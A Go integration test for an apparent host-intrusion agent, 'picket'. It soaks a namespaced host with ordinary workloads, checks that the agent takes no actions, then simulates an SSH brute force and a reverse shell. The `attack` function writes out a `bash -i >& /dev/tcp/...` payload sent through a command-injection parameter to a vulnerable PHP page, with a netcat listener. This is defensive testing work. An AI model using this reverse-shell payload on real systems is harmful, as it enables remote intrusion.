package soak

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/picket-agent/picket/internal/netnstest"
)

// Timing. The agent learns for `learning` (--learning-period: the schema
// allows only 0s or 24h..72h in a policy), then the workloads run at
// least minSoak — long enough for cron's minute — and until each made
// its minimum progress after learning.
const (
	learning     = 8 * time.Second
	minSoak      = 50 * time.Second
	maxSoak      = 100 * time.Second
	tailWindow   = 5 * time.Second  // after the workloads: late signals still counted
	killDeadline = 30 * time.Second // the attack's shell must be dead by then
	// From the namespace's start to the end of the attacks: the build of
	// picket before it depends on the machine's load, not on the test.
	budget = 150 * time.Second
)

// minimum progress after the learning period, per workload
var minProgress = map[string]int{
	"docker": 8, // two rounds: run --rm, run -d + exec, stop, rm
	"build":  8, // two rounds: go build, run the binary, go test, go run
	"dpkg":   4,
	"rotate": 2,
	"cron":   1,
}

// TestBenignSoakThenAttack is the issue's "benign soak test in enforce
// mode": zero actions while a busy, ordinary host does its work, then a
// reverse shell below php-fpm still gets its process tree killed.
//
// Why namespaces and not a booted systemd-nspawn container: the
// repository's daemons (dockertest, sshdtest, the scenarios' nginx and
// php-fpm) already run this way on this machine, init.sh as PID 1 makes
// the namespace's lifetime one process's, and killing unshare
// (--kill-child) ends everything in it at once; a container would need a
// bootable root filesystem image, which cannot be fetched here.
func TestBenignSoakThenAttack(t *testing.T) {
	testStart := time.Now()
	h := newHost(t)
	begin := time.Now()
	t.Logf("setup (picket built, private root, signed config, namespaces) took %s", begin.Sub(testStart).Round(time.Second))
	h.start(learning)
	st := h.waitAgent()
	var sensors []string
	for _, s := range st.Sensors {
		sensors = append(sensors, s.Name+"="+s.State)
	}
	t.Logf("agent running, config %s %.12s, mode %s, learning until %s; sensors: %s",
		st.Config.Source, st.Config.Revision, st.Mode, st.Learning.Ends.Format("15:04:05"), strings.Join(sensors, " "))

	j := &journal{h: h}
	h.touch("ctl/start")
	web := h.startVisitors()
	defer web.stop()
	logins := []string{h.adminLogin(false), h.devLogin()}
	// ssh sessions during the soak, by seconds after learning.
	sessions := []struct {
		after time.Duration
		run   func() string
	}{
		{5 * time.Second, func() string { return h.adminLogin(true) }},
		{15 * time.Second, h.devLogin},
		{30 * time.Second, func() string { return h.adminLogin(true) }},
		{40 * time.Second, h.devLogin},
	}

	h.waitFor("the learning period to end", learning+30*time.Second, func() bool {
		st, ok := h.status()
		return ok && st.State == "running" && !st.Learning.Active && !st.Learning.Ends.IsZero()
	})
	learnEnd := time.Now()
	t.Logf("learning over at %s (%.1fs after start); soak begins", learnEnd.Format("15:04:05"), learnEnd.Sub(begin).Seconds())
	j.check()
	stBefore, _ := h.status()

	// --- the soak ---------------------------------------------------------
	webBefore := web.ok.Load()
	for {
		j.check()
		el := time.Since(learnEnd)
		if len(sessions) > 0 && el > sessions[0].after {
			logins = append(logins, sessions[0].run())
			sessions = sessions[1:]
		}
		missing := h.missingProgress(learnEnd)
		if web.ok.Load()-webBefore < 50 {
			missing = append(missing, fmt.Sprintf("web: %d requests", web.ok.Load()-webBefore))
		}
		if len(sessions) > 0 {
			missing = append(missing, "ssh sessions")
		}
		if el >= minSoak && len(missing) == 0 {
			break
		}
		if el > maxSoak {
			t.Errorf("after %s of soak the workloads did not make their minimum progress: %s", maxSoak, strings.Join(missing, "; "))
			break
		}
		time.Sleep(500 * time.Millisecond)
	}
	h.touch("ctl/stop")
	web.stop()
	h.waitFor("the workload loops to end", 60*time.Second, func() bool {
		for _, w := range []string{"docker", "build", "dpkg", "rotate"} {
			if !h.progress(w, learnEnd).Done {
				return false
			}
		}
		return true
	})
	for end := time.Now().Add(tailWindow); time.Now().Before(end); time.Sleep(500 * time.Millisecond) {
		j.check()
	}
	soakEnd := time.Now()

	// --- zero actions -----------------------------------------------------
	j.check()
	t.Logf("soak: %.0fs after learning; %s; web %d ok / %d failed; ssh sessions: %s",
		soakEnd.Sub(learnEnd).Seconds(), h.progressSummary(learnEnd), web.ok.Load(), web.failed.Load(), strings.Join(logins, "; "))
	for _, l := range logins {
		if !strings.HasPrefix(l, "ok") {
			t.Errorf("ssh session failed: %s", l)
		}
	}
	if n := web.failed.Load(); n > 0 {
		t.Errorf("%d web requests failed (last: %s)", n, web.lastErr())
	}
	if stAfter, ok := h.status(); ok {
		t.Logf("agent during the soak: %d events, %d signals", stAfter.Counters.Events-stBefore.Counters.Events,
			stAfter.Counters.Signals-stBefore.Counters.Signals)
	}
	h.checkWorkloads(learnEnd)
	j.report(t, "benign soak", soakEnd)
	h.checkFirewall("after the benign soak")
	h.logSignals(t)
	t.Logf("agent log, warnings and errors: %s", logSummary(h.tail("logs/agent.log", 8<<20)))

	// --- the attack ---------------------------------------------------------
	// The attacks. The brute force first: the reverse shell's incident
	// may reach lockdown, whose containment pauses new SSH logins.
	attackStart := time.Now()
	h.bruteForce(j, attackStart)
	h.attack(j, time.Now())
	h.checkServiceAfterAttacks()
	j.check()
	j.report(t, "benign soak (re-checked after the attack)", attackStart)
	if d := time.Since(begin); d > budget {
		t.Errorf("the soak took %s from the namespace's start, more than its budget of %s", d.Round(time.Second), budget)
	}
	t.Logf("total %s, %s from namespace start", time.Since(testStart).Round(time.Second), time.Since(begin).Round(time.Second))
}

func (h *host) touch(rel string) {
	h.t.Helper()
	if err := os.WriteFile(h.path(rel), nil, 0o644); err != nil {
		h.t.Fatal(err)
	}
}

// waitAgent waits until the agent runs, on the signed config, in
// enforce mode and learning; the process sensor must not be off.
func (h *host) waitAgent() agentStatus {
	var st agentStatus
	h.waitFor("the agent to run on the signed config", 60*time.Second, func() bool {
		var ok bool
		st, ok = h.status()
		return ok && st.State == "running" && time.Since(st.Heartbeat) < 30*time.Second
	})
	if st.Config.Source != "repository" || st.Mode != "enforce" {
		h.t.Fatalf("agent runs %s config in mode %s, want the repository's in enforce", st.Config.Source, st.Mode)
	}
	if !st.Learning.Active {
		h.t.Logf("the agent's learning period was already over when it first reported (ends %s): slow start", st.Learning.Ends)
	}
	for _, s := range st.Sensors {
		if (s.Name == "process" || s.Name == "auth" || s.Name == "web") && s.State == "off" {
			h.t.Fatalf("sensor %s is off (%s): the soak would prove nothing", s.Name, s.Detail)
		}
		if s.State != "ok" {
			h.t.Logf("sensor %s %s: %s", s.Name, s.State, s.Detail)
		}
	}
	return st
}

// --- workloads -------------------------------------------------------------

func (h *host) progress(loop string, since time.Time) progress {
	b, _ := os.ReadFile(h.path("progress/" + loop + ".log"))
	return parseProgress(string(b), since, time.Now(), 2*time.Minute)
}

func (h *host) missingProgress(since time.Time) []string {
	var missing []string
	for _, w := range sortedKeys(minProgress) {
		if p := h.progress(w, since); p.OK < minProgress[w] {
			missing = append(missing, fmt.Sprintf("%s: %d/%d", w, p.OK, minProgress[w]))
		}
	}
	return missing
}

func (h *host) progressSummary(since time.Time) string {
	var parts []string
	for _, w := range sortedKeys(minProgress) {
		p := h.progress(w, since)
		parts = append(parts, fmt.Sprintf("%s %d ok/%d failed", w, p.OK, len(p.Failures)))
	}
	return strings.Join(parts, ", ")
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// checkWorkloads: no step failed (a killed step exits with a signal), no
// cron job left unfinished, and every daemon and the agent still alive.
func (h *host) checkWorkloads(since time.Time) {
	t := h.t
	for _, w := range sortedKeys(minProgress) {
		if p := h.progress(w, time.Time{}); len(p.Failures) > 0 {
			t.Errorf("workload %s failed (see %s/logs/%s.out): %s", w, h.dir, w, strings.Join(p.Failures, "; "))
		}
	}
	for _, d := range []string{"dockerd", "sshd", "syslog", "php-fpm", "nginx", "cron", "agent"} {
		if h.nsPIDFile(d) == 0 {
			t.Errorf("%s is no longer running", d)
		}
	}
	if cont := h.procsNamed("containerd"); len(cont) == 0 {
		t.Errorf("containerd is no longer running")
	}
}

func (h *host) procsNamed(comm string) []proc {
	var out []proc
	for _, p := range h.procs() {
		if p.Comm == comm {
			out = append(out, p)
		}
	}
	return out
}

// adminLogin logs in over ssh from the admin network and runs what an
// admin looks at; with work, the session also builds and tests in /tmp
// and starts a container — so that an sshd session is the common
// ancestor of /tmp executions, container starts and the admin's shell.
// It returns "ok" or what failed.
func (h *host) adminLogin(work bool) string {
	script := "id; uptime; ps -e | wc -l; df -h / | tail -n 1; tail -n 2 /var/log/auth.log; ls /etc/cron.d"
	if work {
		script += fmt.Sprintf("; set -e; cd %[1]s/gowork-admin; export GOTMPDIR=%[1]s/gotmp GOCACHE=%[2]s GOPROXY=off GOTOOLCHAIN=local GOENV=off GOFLAGS= CGO_ENABLED=0 DOCKER_CONFIG=%[1]s/docker-cli"+
			"; %[3]s test -count=1 . && %[3]s build -o %[1]s/tmp/admin-app . && %[1]s/tmp/admin-app 1s"+
			"; docker run --rm --network none busybox:soak sh -c 'echo admin container; sleep 1'", h.dir, h.gocache, h.goBin)
	}
	want := "uid=0(root)"
	if work {
		want = "admin container"
	}
	return h.sshSession(h.admin, "root@"+srvAdmin, h.adminKey, script, want)
}

// devLogin is a developer's ssh session from the visitors' network (not
// whitelisted: an ordinary user from an ordinary address), a few seconds
// long, as an interactive session is.
func (h *host) devLogin() string {
	return h.sshSession(h.users, "dev@"+srvUsers, h.path("ssh/dev_key"), "id; ls -la; git --version; sleep 4; uptime", "uid=1500(dev)")
}

// sshSession runs script over ssh from ns and returns "ok <time>" when
// its output has want, else what failed.
func (h *host) sshSession(ns *netnstest.NS, dest, key, script, want string) string {
	cmd := exec.Command("ip", "netns", "exec", ns.Name, "ssh", "-F", "/dev/null", "-i", key,
		"-o", "UserKnownHostsFile=/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes",
		"-o", "ConnectTimeout=10", "-o", "LogLevel=ERROR", dest, script)
	cmd.Env = append(os.Environ(), "HOME="+h.path("adminhome"))
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		return dest + ": start: " + err.Error()
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil || !strings.Contains(out.String(), want) {
			return fmt.Sprintf("%s: %v: %s", dest, err, clip(out.String(), 300))
		}
		return "ok " + dest + " " + time.Now().Format("15:04:05")
	case <-time.After(60 * time.Second):
		_ = cmd.Process.Kill()
		<-done
		return dest + ": timed out: " + clip(out.String(), 300)
	}
}

// visitors is web traffic from the visitors' network: the static page,
// the PHP page and a missing file, four times a second, on keep-alive
// connections and on one-shot ones.
type visitors struct {
	ok, failed atomic.Int64
	mu         sync.Mutex
	last       string
	quit       chan struct{}
	done       chan struct{}
	once       sync.Once
}

func (v *visitors) stop() {
	v.once.Do(func() { close(v.quit); <-v.done })
}

func (v *visitors) lastErr() string {
	v.mu.Lock()
	defer v.mu.Unlock()
	return v.last
}

func (h *host) startVisitors() *visitors {
	v := &visitors{quit: make(chan struct{}), done: make(chan struct{})}
	go func() {
		defer close(v.done)
		// One thread in the visitors' namespace for the whole loop: its
		// sockets are made there.
		_ = h.users.Do(func() error {
			paths := []string{"/", "/app.php", "/app.php?page=2", "/favicon.ico"}
			record := func(p string, code int, err error) {
				want := 200
				if p == "/favicon.ico" {
					want = 404
				}
				if err != nil || code != want {
					v.failed.Add(1)
					v.mu.Lock()
					v.last = fmt.Sprintf("GET %s: %d %v", p, code, err)
					v.mu.Unlock()
					return
				}
				v.ok.Add(1)
			}
			pace := func() bool {
				select {
				case <-v.quit:
					return false
				case <-time.After(250 * time.Millisecond):
					return true
				}
			}
			// Browsers keep their connection open: 20 requests on one
			// keep-alive connection (about 5 s), then a few one-shot
			// clients (curl, monitoring).
			for {
				c, err := net.DialTimeout("tcp", srvUsers+":80", 5*time.Second)
				if err != nil {
					record("/", 0, err)
				} else {
					br := bufio.NewReader(c)
					for i := 0; i < 20; i++ {
						if !pace() {
							c.Close()
							return nil
						}
						code, err := keepAliveGet(c, br, paths[i%len(paths)])
						record(paths[i%len(paths)], code, err)
						if err != nil {
							break
						}
					}
					c.Close()
				}
				for _, p := range paths {
					if !pace() {
						return nil
					}
					code, err := httpGet(srvUsers+":80", p, 5*time.Second)
					record(p, code, err)
				}
			}
		})
	}()
	return v
}

// keepAliveGet sends one request on an open keep-alive connection and
// reads the whole response.
func keepAliveGet(c net.Conn, br *bufio.Reader, path string) (int, error) {
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: soak.example\r\nUser-Agent: Mozilla/5.0 (soak visitor)\r\n\r\n", path)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return resp.StatusCode, err
	}
	return resp.StatusCode, nil
}

// httpGet sends one HTTP/1.1 request on a fresh connection (dialled by
// the calling thread, so in its network namespace) and returns the status.
func httpGet(addr, path string, timeout time.Duration) (int, error) {
	c, err := net.DialTimeout("tcp", addr, timeout)
	if err != nil {
		return 0, err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(timeout))
	fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: soak.example\r\nUser-Agent: Mozilla/5.0 (soak visitor)\r\nConnection: close\r\n\r\n", path)
	line, err := bufio.NewReader(c).ReadString('\n')
	if err != nil {
		return 0, err
	}
	var proto string
	var code int
	if _, err := fmt.Sscan(line, &proto, &code); err != nil {
		return 0, fmt.Errorf("bad status line %q", line)
	}
	return code, nil
}

// --- the journal and the firewall -------------------------------------------

// journal follows `picket actions --all --json` and remembers every
// action seen, so that one that came and went between polls still counts.
type journal struct {
	h       *host
	seen    map[int64]action
	lastErr error
}

func (j *journal) check() {
	out, err := j.h.picket("actions", "--all", "--json", "--limit", "0")
	if err != nil {
		j.lastErr = fmt.Errorf("picket actions: %v: %s", err, out)
		return
	}
	list, err := parseLines[action](out)
	if err != nil {
		j.lastErr = err
		return
	}
	if j.seen == nil {
		j.seen = map[int64]action{}
	}
	for _, a := range list {
		j.seen[a.ID] = a
	}
	j.lastErr = nil
}

func (j *journal) incidents() map[int64]incident {
	out, _ := j.h.picket("incidents", "--all", "--json", "--limit", "0")
	list, err := parseLines[incident](out)
	if err != nil {
		j.h.t.Logf("picket incidents: %v", err)
	}
	m := map[int64]incident{}
	for _, i := range list {
		m[i.ID] = i
	}
	return m
}

// report fails the test for every action taken before `before` (the
// benign part), listing which rules raised it; plans held back are
// logged, since they show what the agent would do after a longer
// learning period or with another policy.
func (j *journal) report(t *testing.T, phase string, before time.Time) {
	t.Helper()
	if j.lastErr != nil {
		t.Errorf("%s: reading the journal: %v", phase, j.lastErr)
	}
	incs := j.incidents()
	var bad, held []string
	shown := map[int64]bool{}
	for _, id := range sortedIDs(j.seen) {
		a := j.seen[id]
		if !a.Created.Before(before) {
			continue
		}
		if acting(a) {
			bad = append(bad, describeOnce(a, incs, shown))
		} else {
			held = append(held, describeOnce(a, incs, shown))
		}
	}
	if len(held) > 0 {
		t.Logf("%s: %d plans held back (not acted on):\n  %s", phase, len(held), strings.Join(held, "\n  "))
	}
	if len(bad) > 0 {
		t.Errorf("%s: %d actions taken against a benign host, want 0:\n  %s", phase, len(bad), strings.Join(bad, "\n  "))
	}
}

func sortedIDs(m map[int64]action) []int64 {
	ids := make([]int64, 0, len(m))
	for id := range m {
		ids = append(ids, id)
	}
	sort.Slice(ids, func(a, b int) bool { return ids[a] < ids[b] })
	return ids
}

// actingSets are the sets of table inet picket whose elements act (block,
// rate-limit, pause, contain); admin4/6 hold the whitelist and meters are
// the kernel's.
var actingSets = map[string]bool{"block4": true, "block6": true, "out4": true, "out6": true, "ratelimit4": true,
	"ratelimit6": true, "sshpause": true, "contain_active": true}

// checkFirewall: nothing in the acting sets of the agent's table.
func (h *host) checkFirewall(phase string) {
	sets, err := h.nftSets()
	if err != nil {
		h.t.Errorf("%s: %v", phase, err)
		return
	}
	for _, name := range sortedKeys(sets) {
		if actingSets[name] && len(sets[name]) > 0 {
			h.t.Errorf("%s: nftables set %s holds %d elements: %s", phase, name, len(sets[name]), clip(strings.Join(sets[name], " "), 600))
		}
	}
}

// nftSets returns the elements (as nft's JSON) of every set of table inet
// picket in the host's network namespace; no table is no sets.
func (h *host) nftSets() (map[string][]string, error) {
	out, err := exec.Command("ip", "netns", "exec", h.srv.Name, "nft", "-j", "list", "table", "inet", "picket").CombinedOutput()
	if err != nil {
		if bytes.Contains(out, []byte("No such file")) {
			return nil, nil
		}
		return nil, fmt.Errorf("nft list table inet picket: %v: %s", err, out)
	}
	var doc struct {
		Nftables []map[string]json.RawMessage `json:"nftables"`
	}
	if err := json.Unmarshal(out, &doc); err != nil {
		return nil, fmt.Errorf("nft -j: %v", err)
	}
	sets := map[string][]string{}
	for _, obj := range doc.Nftables {
		raw, ok := obj["set"]
		if !ok {
			continue
		}
		var set struct {
			Name string            `json:"name"`
			Elem []json.RawMessage `json:"elem"`
		}
		if json.Unmarshal(raw, &set) == nil {
			for _, e := range set.Elem {
				sets[set.Name] = append(sets[set.Name], string(e))
			}
		}
	}
	return sets, nil
}

// bruteForce guesses user names over ssh from a second attacker address:
// the agent, still following auth.log after the soak's rotations, must
// block it (journal: block-source applied; the address in block4).
func (h *host) bruteForce(j *journal, start time.Time) {
	t := h.t
	const addr = "198.18.3.3"
	netnstest.Run(t, "ip", "-n", h.at.Name, "addr", "add", addr+"/24", "dev", "sk-atk0")
	var block *action
	blocked := func() bool {
		j.check()
		for _, id := range sortedIDs(j.seen) {
			if a := j.seen[id]; a.Kind == "block-source" && strings.Contains(a.Target, addr) && a.Status == "applied" && !a.Created.Before(start) {
				block = &a
				return true
			}
		}
		return false
	}
	// Guesses until the block lands: once it does, the attacker's
	// packets are dropped and its connection hangs — the point of a
	// block, so a guess timing out is no error.
	for i := 0; i < 8 && !blocked(); i++ {
		// Two wrong passwords per connection (SSH_ASKPASS answers).
		ctx, cancel := context.WithTimeout(context.Background(), 8*time.Second)
		cmd := exec.CommandContext(ctx, "ip", "netns", "exec", h.at.Name, "ssh", "-F", "/dev/null", "-b", addr,
			"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
			"-o", "ConnectTimeout=5", "-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password",
			"-o", "NumberOfPasswordPrompts=2", "-o", "LogLevel=QUIET", fmt.Sprintf("guess%d@%s", i, srvAttack), "true")
		cmd.Env = append(os.Environ(), "HOME="+h.path("adminhome"), "SSH_ASKPASS="+h.path("ssh/askpass"),
			"SSH_ASKPASS_REQUIRE=force", "DISPLAY=:0")
		out, err := cmd.CombinedOutput()
		cancel()
		if err == nil {
			t.Errorf("ssh guess%d logged in: %s", i, out)
		}
	}
	inSet := false
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		if sets, _ := h.nftSets(); block != nil || blocked() {
			if inSet = strings.Contains(strings.Join(sets["block4"], " "), `"`+addr+`"`); inSet {
				break
			}
		}
		time.Sleep(200 * time.Millisecond)
	}
	incs := j.incidents()
	var acts, beyond []string
	shown := map[int64]bool{}
	for _, id := range sortedIDs(j.seen) {
		if a := j.seen[id]; !a.Created.Before(start) {
			acts = append(acts, describeOnce(a, incs, shown))
			// Nobody got in: the answer is at the network. Killing,
			// disabling accounts or containing the host harms it.
			if acting(a) && a.Kind != "block-source" && a.Kind != "rate-limit" {
				beyond = append(beyond, describe(a, incs))
			}
		}
	}
	t.Logf("brute force: journal since %s:\n  %s", start.Format("15:04:05"), strings.Join(acts, "\n  "))
	if len(beyond) > 0 {
		t.Errorf("brute force from %s that never logged in: %d actions beyond blocking it:\n  %s", addr, len(beyond), strings.Join(beyond, "\n  "))
	}
	switch {
	case block == nil:
		t.Errorf("brute force from %s: no block-source applied (is the auth sensor still reading the rotated auth.log?); auth.log ends:\n%s",
			addr, h.nsTail("/var/log/auth.log", 2000))
	case !inSet:
		t.Errorf("brute force from %s: block-source %d applied but %s is not in set block4", addr, block.ID, addr)
	default:
		t.Logf("brute force: block-source %d (%s) applied %.1fs after the first guess; %s is in block4", block.ID, block.Target,
			block.Applied.Sub(start).Seconds(), addr)
	}
}

// logSignals logs which rules fired during the soak (observe-level
// signals are allowed; they show what the detectors made of the host).
func (h *host) logSignals(t *testing.T) {
	j := &journal{h: h}
	incs := j.incidents()
	counts := map[string]int{}
	levels := map[string]int{}
	for _, inc := range incs {
		levels[inc.Level]++
		for _, s := range inc.Signals {
			counts[s.Rule]++
		}
	}
	var parts []string
	for _, r := range sortedKeys(counts) {
		parts = append(parts, fmt.Sprintf("%s×%d", r, counts[r]))
	}
	var lv []string
	for _, l := range sortedKeys(levels) {
		lv = append(lv, fmt.Sprintf("%s×%d", l, levels[l]))
	}
	t.Logf("soak incidents: %d (%s); signals: %s", len(incs), strings.Join(lv, " "), strings.Join(parts, " "))
}

// --- the attack -------------------------------------------------------------

// attack: a netcat listener in the attacker's namespace, a request to the
// vulnerable PHP page that starts `bash -i` with its stdio on a TCP
// connection back to it, a command through the shell; then the agent must
// kill the shell's process tree (journal: kill-tree done; the shell gone).
func (h *host) attack(j *journal, start time.Time) {
	t := h.t
	nc := exec.Command("ip", "netns", "exec", h.at.Name, "nc", "-l", attackAddr, attackPort)
	stdin, err := nc.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var got bytes.Buffer
	nc.Stdout = writerFunc(func(p []byte) (int, error) { mu.Lock(); defer mu.Unlock(); return got.Write(p) })
	nc.Stderr = nc.Stdout
	if err := nc.Start(); err != nil {
		t.Fatal(err)
	}
	ncDone := make(chan struct{})
	go func() { _ = nc.Wait(); close(ncDone) }()
	defer func() {
		stdin.Close()
		_ = nc.Process.Kill()
		<-ncDone
	}()
	received := func() string { mu.Lock(); defer mu.Unlock(); return got.String() }
	h.waitFor("the attacker's listener", 10*time.Second, func() bool {
		out, _ := exec.Command("ip", "netns", "exec", h.at.Name, "ss", "-Hltn", "sport = :"+attackPort).Output()
		return bytes.Contains(out, []byte(attackAddr+":"+attackPort))
	})
	payload := fmt.Sprintf("bash -c 'bash -i >& /dev/tcp/%s/%s 0>&1'", attackAddr, attackPort)
	go func() {
		// The request hangs while the shell lives (system() waits).
		_ = h.at.Do(func() error {
			_, err := httpGet(srvAttack+":80", "/vuln.php?c="+url.QueryEscape(payload), killDeadline+30*time.Second)
			return err
		})
	}()
	// The agent may kill the shell within a scan or two, before the test
	// even looks: every `bash -i` of the namespace seen at any poll is
	// remembered, and the listener's prompt proves the shell ran.
	shells := map[int]proc{}
	sawShells := func() {
		for _, p := range h.procs() {
			if p.Cmdline == "bash -i" && !strings.HasPrefix(p.State, "Z") {
				shells[p.PID] = p
			}
		}
	}
	h.waitFor("the reverse shell to connect", 20*time.Second, func() bool { sawShells(); return received() != "" })
	sawShells()
	if _, err := io.WriteString(stdin, "id\n"); err != nil {
		t.Logf("writing to the shell: %v (it may be dead already)", err)
	}
	t.Logf("reverse shell connected (bash -i seen: %v); the listener got: %q", slices.Collect(maps.Values(shells)), clip(received(), 200))
	var kill *action
	deadline := time.Now().Add(killDeadline)
	for time.Now().Before(deadline) {
		sawShells()
		j.check()
		kill = nil
		for _, id := range sortedIDs(j.seen) {
			if a := j.seen[id]; a.Kind == "kill-tree" && !a.Created.Before(start) && a.Status == "done" {
				kill = &a
				break
			}
		}
		if kill != nil && !anyAlive(shells) {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	if !strings.Contains(received(), "uid=33(www-data)") {
		t.Logf("the listener did not get the output of id (the shell may have died first): %q", clip(received(), 300))
	}
	incs := j.incidents()
	var acts []string
	shown := map[int64]bool{}
	for _, id := range sortedIDs(j.seen) {
		if a := j.seen[id]; !a.Created.Before(start) {
			acts = append(acts, describeOnce(a, incs, shown))
		}
	}
	t.Logf("attack: journal since %s:\n  %s", start.Format("15:04:05"), strings.Join(acts, "\n  "))
	switch {
	case kill == nil:
		t.Errorf("attack: no kill-tree done within %s of the reverse shell", killDeadline)
	case len(shells) == 0:
		t.Errorf("attack: kill-tree %d is done, but the test never saw the shell's bash -i to check it died", kill.ID)
	case anyAlive(shells):
		t.Errorf("attack: kill-tree %d is done but the shell still runs: %v", kill.ID, shells)
	default:
		t.Logf("attack: kill-tree %d (%s) done %.1fs after the attack began; the shell is gone",
			kill.ID, kill.Target, kill.Applied.Sub(start).Seconds())
	}
}

// checkServiceAfterAttacks: what the agent did against the attackers
// left the host's service alone — sshd still listens and the admin still
// gets in (whatever containment holds, admin_ips pass), the web site
// still answers its visitors.
func (h *host) checkServiceAfterAttacks() {
	t := h.t
	for _, d := range []string{"sshd", "php-fpm", "nginx", "agent"} {
		if h.nsPIDFile(d) == 0 {
			t.Errorf("after the attacks: %s is no longer running", d)
		}
	}
	if l := h.adminLogin(false); !strings.HasPrefix(l, "ok") {
		t.Errorf("after the attacks the admin cannot log in: %s", l)
	}
	var code int
	var err error
	_ = h.users.Do(func() error { code, err = httpGet(srvUsers+":80", "/app.php", 10*time.Second); return nil })
	if err != nil || code != 200 {
		t.Errorf("after the attacks GET /app.php from a visitor: %d %v", code, err)
	}
}

// anyAlive reports whether one of ps still runs (same pid, same start).
func anyAlive(ps map[int]proc) bool {
	for _, p := range ps {
		if now, ok := readProc(p.PID); ok && now.Start == p.Start && !strings.HasPrefix(now.State, "Z") && syscall.Kill(p.PID, 0) == nil {
			return true
		}
	}
	return false
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

// logSummary counts the agent's WARN and ERROR lines (JSON slog) by
// message: what a soak makes the agent complain about.
func logSummary(text string) string {
	n := map[string]int{}
	for line := range strings.SplitSeq(text, "\n") {
		var l struct{ Level, Msg string }
		if json.Unmarshal([]byte(line), &l) == nil && (l.Level == "WARN" || l.Level == "ERROR") {
			n[l.Level+" "+l.Msg]++
		}
	}
	if len(n) == 0 {
		return "none"
	}
	var parts []string
	for _, k := range sortedKeys(n) {
		parts = append(parts, fmt.Sprintf("%q×%d", k, n[k]))
	}
	return strings.Join(parts, ", ")
}
